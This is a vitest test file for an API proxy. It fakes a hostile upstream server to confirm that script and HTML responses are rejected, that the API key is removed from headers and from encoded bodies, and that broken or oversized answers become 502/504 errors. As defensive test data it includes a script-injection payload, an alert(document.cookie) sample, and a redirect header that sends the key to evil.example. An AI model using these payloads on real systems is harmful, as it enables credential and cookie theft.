import { createServer, type IncomingMessage, type Server, type ServerResponse } from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { proxyTo } from './testing/fake-upstream';

// Issue 16, findings 7, 8 and 9: a hostile (or broken) upstream behind the proxy. It must not get HTML or
// script served on the console's origin, must not get the key delivered to the browser in any header or
// any encoding of the body, and an answer that stops half-way is the proxy's own 502/504, not a bare 500.

const KEY = 'phx_hostile_upstream_key_0123456789abcdef';
type Reply = (req: IncomingMessage, res: ServerResponse) => void;
let reply: Reply;
let upstream: Server;
let upstreamUrl: string;

beforeAll(async () => {
  upstream = createServer((req, res) => {
    req.resume();
    req.on('end', () => reply(req, res));
  });
  await new Promise<void>((resolve) => upstream.listen(0, '127.0.0.1', resolve));
  upstreamUrl = `http://127.0.0.1:${(upstream.address() as AddressInfo).port}`;
});
afterAll(() => {
  upstream.closeAllConnections();
  upstream.close();
});

const HOST = '127.0.0.1:4400';
const proxy = (timeoutMs = 1500) => proxyTo(upstreamUrl, KEY, timeoutMs);
const get = (timeoutMs?: number) =>
  proxy(timeoutMs).request(`http://${HOST}/api/projects/@current/experiments/`, {
    headers: { host: HOST },
  });

const json = (res: ServerResponse, body: unknown, headers: Record<string, string> = {}) => {
  res.writeHead(200, { 'content-type': 'application/json', ...headers });
  res.end(JSON.stringify(body));
};

/** Every way the key could reach the browser: the whole answer, headers and body, as text. */
async function everything(res: Response): Promise<string> {
  return [...res.headers].map(([k, v]) => `${k}: ${v}`).join('\n') + '\n' + (await res.text());
}

describe('what a hostile upstream answers never reaches the browser as it is', () => {
  it.each([
    ['text/html', '<script>fetch("/api/projects/@current/experiments/1/archive/")</script>'],
    ['application/javascript', 'alert(document.cookie)'],
    ['text/plain', '{"looks":"like json"}'],
    ['', '{"untyped":true}'],
  ])('a %s answer becomes the proxy’s 502 JSON body (finding 7)', async (type, body) => {
    reply = (_, res) => {
      res.writeHead(200, type ? { 'content-type': type } : {});
      res.end(body);
    };
    const res = await get();
    expect(res.status).toBe(502);
    expect(res.headers.get('content-type')).toMatch(/^application\/json/);
    expect(await res.json()).toMatchObject({
      type: 'server_error',
      code: 'upstream_invalid_response',
      attr: null,
    });
  });

  it('JSON that is not JSON is a 502 too', async () => {
    reply = (_, res) => {
      res.writeHead(200, { 'content-type': 'application/json' });
      res.end('<html>');
    };
    expect((await get()).status).toBe(502);
  });

  it('only numeric Retry-After and rate-limit headers pass; the echoed key never does (finding 8)', async () => {
    reply = (req, res) =>
      json(
        res,
        { ok: true },
        {
          'retry-after': String(req.headers.authorization),
          'x-ratelimit-remaining': `${req.headers.authorization} 5`,
          'set-cookie': `session=${req.headers.authorization}`,
          location: `https://evil.example/?k=${req.headers.authorization}`,
          'x-echo': String(req.headers.authorization),
        },
      );
    const res = await get();
    expect(res.status).toBe(200);
    const text = await everything(res);
    expect(text).not.toContain(KEY);
    for (const name of ['retry-after', 'x-ratelimit-remaining', 'set-cookie', 'location', 'x-echo'])
      expect(res.headers.get(name)).toBeNull();

    reply = (_, res) => json(res, {}, { 'retry-after': '12', 'x-ratelimit-remaining': '3' });
    const numeric = await get();
    expect(numeric.headers.get('retry-after')).toBe('12');
    expect(numeric.headers.get('x-ratelimit-remaining')).toBe('3');
  });

  it('the key is redacted from the body in every encoding the proxy recognises (finding 8)', async () => {
    const bearer = `Bearer ${KEY}`;
    const encodings = {
      literal: KEY,
      base64: Buffer.from(KEY).toString('base64'),
      base64OfHeader: Buffer.from(bearer).toString('base64'),
      base64UrlOfHeader: Buffer.from(`x${bearer}`).toString('base64url'),
      base64InText: `token=${Buffer.from(`ab${KEY}cd`).toString('base64')};`,
      hex: Buffer.from(KEY).toString('hex'),
      hexUpper: Buffer.from(KEY).toString('hex').toUpperCase(),
      percent: encodeURIComponent(`${KEY}?&`).replace(/_/g, '%5F'),
      doubleEncodedJson: JSON.stringify({ inner: KEY }).replace(/p/g, '\\u0070'),
    };
    reply = (_, res) => {
      res.writeHead(200, { 'content-type': 'application/json' });
      // \u-escaped copies, written out as PostHog's JSON could carry them.
      const escaped = [...KEY].map((ch) => `\\u${ch.charCodeAt(0).toString(16).padStart(4, '0')}`);
      const body = JSON.stringify({ ...encodings, [KEY]: 'as a property name' });
      res.end(`${body.slice(0, -1)},"escaped":"${escaped.join('')}"}`);
    };
    const res = await get();
    expect(res.status).toBe(200);
    const text = await everything(res);
    for (const form of [...Object.values(encodings), Buffer.from(KEY).toString('base64')]) {
      expect(text).not.toContain(form.slice(0, 30));
    }
    const body = JSON.parse(text.slice(text.indexOf('\n{') + 1)) as Record<string, string>;
    const { '[redacted]': named, ...values } = body;
    expect(named).toBe('as a property name');
    expect(Object.entries(values).filter(([, v]) => !v.includes('[redacted]'))).toEqual([]);
    expect(JSON.stringify(body)).not.toMatch(/phx_|\\u0070/);
  });
});

describe('an answer that breaks off (finding 9)', () => {
  it('stopping mid-body is the proxy’s 502 body, not a bare 500', async () => {
    reply = (_, res) => {
      res.writeHead(200, { 'content-type': 'application/json', 'content-length': '1000' });
      res.write('{"results":[');
      setTimeout(() => res.socket?.destroy(), 20);
    };
    const res = await get();
    expect(res.status).toBe(502);
    expect(await res.json()).toMatchObject({
      type: 'server_error',
      code: 'upstream_invalid_response',
      attr: null,
    });
  });

  it('stalling mid-body is the proxy’s 504 body', async () => {
    reply = (_, res) => {
      res.writeHead(200, { 'content-type': 'application/json', 'content-length': '1000' });
      res.write('{"results":[');
    };
    const res = await get(300);
    expect(res.status).toBe(504);
    expect(await res.json()).toMatchObject({ code: 'upstream_timeout' });
  });

  it('an answer larger than 32 MB is not buffered: 502', async () => {
    reply = (_, res) => {
      res.writeHead(200, { 'content-type': 'application/json' });
      const chunk = `"${'x'.repeat(1024 * 1024)}",`;
      res.write('[');
      let sent = 0;
      const more = () => {
        while (sent < 40 && res.write(chunk)) sent++;
        if (sent < 40 && !res.destroyed) res.once('drain', more);
        else res.end('0]');
      };
      more();
    };
    const res = await get(5000);
    expect(res.status).toBe(502);
    expect((await res.json()).detail).toMatch(/larger than 32 MB/);
  });
});
